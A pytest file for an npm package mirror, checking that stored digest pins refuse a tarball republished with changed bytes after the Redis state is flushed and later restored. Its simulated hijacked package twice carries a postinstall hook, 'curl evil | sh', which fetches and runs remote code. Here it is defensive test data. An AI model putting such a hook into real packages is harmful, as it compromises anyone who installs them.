"""First-seen digest pins while the shared state is not trusted: the whole app on a real
redis-server of its own that gets flushed, a fake npm upstream on 127.0.0.1 that then serves
other bytes under the same name. The last-known copy's pins win over the emptied state's; the
state is not given a pin that contradicts them; `mirror state restore` puts them back."""

from __future__ import annotations

import asyncio
import contextlib
import subprocess
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
import redis.asyncio as aioredis
from aiohttp import web
from aiohttp.test_utils import TestClient
from pytest_aiohttp import AiohttpClient, AiohttpServer

from mirror import lastknown
from mirror.app import create_app
from mirror.cli.state import restore
from mirror.config import Config, load_config
from mirror.services import SERVICES
from mirror.state import RuleRecord
from tests.conftest import mirror_settings, start_redis, wait_until
from tests.fakes.npm import FakeNpmRegistry, integrity_of, make_tarball

OLD = datetime.now(UTC) - timedelta(days=200)
PACKAGE = "left-pad"
TARBALL = f"/npm/{PACKAGE}/-/{PACKAGE}-1.0.0.tgz"
KEY = f"npm/{PACKAGE}/1.0.0/{PACKAGE}-1.0.0.tgz"
Client = TestClient[web.Request, web.Application]


@pytest.fixture
def redis_url_of_its_own(tmp_path: Path) -> Iterator[str]:
    """A redis-server of this test's own: it gets flushed."""
    process: subprocess.Popen[bytes]
    process, url = start_redis(tmp_path)
    try:
        yield url
    finally:
        with contextlib.suppress(ProcessLookupError):
            process.kill()
        process.wait(10)


@pytest.fixture
async def npm(aiohttp_server: AiohttpServer) -> FakeNpmRegistry:
    registry = FakeNpmRegistry()
    registry.add_version(PACKAGE, "1.0.0", published=OLD)
    registry.add_version("other", "1.0.0", published=OLD)
    await registry.start(aiohttp_server)
    return registry


def config_for(data_dir: Path, npm: FakeNpmRegistry, redis_url: str) -> Config:
    return load_config(
        None,
        mirror_settings(
            data_dir,
            MIRROR_NPM_UPSTREAM=npm.url,
            MIRROR_REDIS_URL=redis_url,
            # Every request reads the packument again: what upstream declares now counts.
            MIRROR_CACHE_METADATA_TTL="0",
            MIRROR_CACHE_STALE_MAX="0",
            MIRROR_UPSTREAM_RETRIES="0",
        ),
    )


async def evict(client: Client) -> None:
    """Drop the stored tarball (what the cache's size limit does to a cold file)."""
    blobs = client.app[SERVICES].blobs
    entry = await blobs.lookup(KEY)
    assert entry is not None
    entry.path.unlink()
    blobs.forget(KEY)


async def redis_pin(url: str) -> str | None:
    client = aioredis.Redis.from_url(url, decode_responses=True)
    try:
        pin: str | None = await client.hget("qm:digests:npm", KEY)
        return pin
    finally:
        await client.aclose()


async def flush(url: str) -> None:
    client = aioredis.Redis.from_url(url)
    try:
        await client.flushall()
    finally:
        await client.aclose()


async def ready(client: Client) -> bool:
    return (await client.get("/readyz")).status == 200


async def pin_and_copy(client: Client, url: str, data: Path) -> str:
    """Fetch the tarball (its digest is pinned in Redis), then have the worker copy rules,
    pins and audit to the data dir (a rule change does that); the pin."""
    assert (await client.get(TARBALL)).status == 200
    pinned = await redis_pin(url)
    assert pinned is not None
    assert pinned.startswith("sha512:")
    services = client.app[SERVICES]
    await services.state.add_rule(unrelated_block())
    await services.policy.reload()

    def copied() -> bool:
        known = lastknown.load(lastknown.path_in(data))
        return known is not None and known.digests.get("npm", {}).get(KEY) == pinned

    assert await wait_until(copied, 5)
    return pinned


async def test_changed_bytes_after_the_state_was_lost_are_refused_by_the_copys_pin(
    aiohttp_client: AiohttpClient,
    npm: FakeNpmRegistry,
    redis_url_of_its_own: str,
    tmp_path: Path,
) -> None:
    url = redis_url_of_its_own
    data = tmp_path / "data"
    config = config_for(data, npm, url)
    client = await aiohttp_client(create_app(config))
    assert await wait_until_async(lambda: ready(client), 10)
    original = npm.version(PACKAGE, "1.0.0").tarball
    pinned = await pin_and_copy(client, url, data)
    services = client.app[SERVICES]

    await flush(url)
    assert await wait_until(lambda: services.policy.degraded is not None, 5)
    # Upstream now serves other bytes under the same name, and declares them (a republished
    # or hijacked package); the stored copy is gone (evicted).
    changed = make_tarball(PACKAGE, "1.0.0", extra={"postinstall": "curl evil | sh"})
    npm.replace_tarball(PACKAGE, "1.0.0", changed)
    await evict(client)

    refused = await client.get(TARBALL)
    assert refused.status == 502, (await refused.read())[:200]
    assert "changed the bytes" in (await refused.json())["error"]
    # The emptied state was not given the new bytes' digest.
    assert await redis_pin(url) is None
    # A file the copy never pinned is pinned in the new state as usual.
    assert (await client.get("/npm/other/-/other-1.0.0.tgz")).status == 200

    # A second worker with the same data dir, started now: degraded at start, same answer.
    second = await aiohttp_client(create_app(config))
    assert second.app[SERVICES].policy.degraded is not None
    again = await second.get(TARBALL)
    assert again.status == 502, (await again.read())[:200]

    report = await restore(config)
    assert report.problem is None
    assert await wait_until_async(lambda: ready(client), 5)
    assert await redis_pin(url) == pinned  # the copy's pin, not the new bytes'
    assert (await client.get(TARBALL)).status == 502
    # The original bytes are what the pin says: served again.
    npm.replace_tarball(PACKAGE, "1.0.0", original)
    served = await client.get(TARBALL)
    assert served.status == 200
    assert integrity_of(await served.read()) == npm.version(PACKAGE, "1.0.0").integrity


async def test_a_pin_the_emptied_state_took_before_the_loss_showed_does_not_outlive_it(
    aiohttp_client: AiohttpClient,
    npm: FakeNpmRegistry,
    redis_url_of_its_own: str,
    tmp_path: Path,
) -> None:
    """Between the flush and a worker's identity check (up to a second), a worker that never
    saw a file's pin can fetch changed bytes and pin them, in the emptied state and in its
    memory: once the state is untrusted, and again once it is restored, that memory pin is
    forgotten and the copy's wins."""
    url = redis_url_of_its_own
    data = tmp_path / "data"
    config = config_for(data, npm, url)
    client = await aiohttp_client(create_app(config))
    assert await wait_until_async(lambda: ready(client), 10)
    pinned = await pin_and_copy(client, url, data)
    # Another worker of the same data dir, which has not seen the file's pin.
    other = await aiohttp_client(create_app(config))
    assert await wait_until_async(lambda: ready(other), 10)
    changed = make_tarball(PACKAGE, "1.0.0", extra={"postinstall": "curl evil | sh"})
    npm.replace_tarball(PACKAGE, "1.0.0", changed)
    await evict(client)
    await flush(url)
    # At once, before the identity check: served (nothing can tell yet) unless the check
    # happened to run in between.
    first = await other.get(TARBALL)
    assert first.status in (200, 502)
    other_policy = other.app[SERVICES].policy
    assert await wait_until(lambda: other_policy.degraded is not None, 5)
    if first.status == 200:
        await evict(other)
    assert (await other.get(TARBALL)).status == 502

    assert (await restore(config)).problem is None
    assert await wait_until_async(lambda: ready(other), 5)
    assert await redis_pin(url) == pinned
    refused = await other.get(TARBALL)  # not stored: the miss asks the pin again
    assert refused.status == 502, (await refused.read())[:200]


def unrelated_block() -> RuleRecord:
    return RuleRecord(
        id="b-unrelated", kind="block", ecosystem="npm", package="unrelated", versions="*",
        reason="test", created_at=datetime.now(UTC), created_by="secops",
    )  # fmt: skip


async def wait_until_async(check: object, seconds: float) -> bool:
    """Poll the coroutine function `check` every 0.1 s for at most `seconds`."""
    assert callable(check)
    for _ in range(int(seconds * 10)):
        if await check():
            return True
        await asyncio.sleep(0.1)
    return bool(await check())
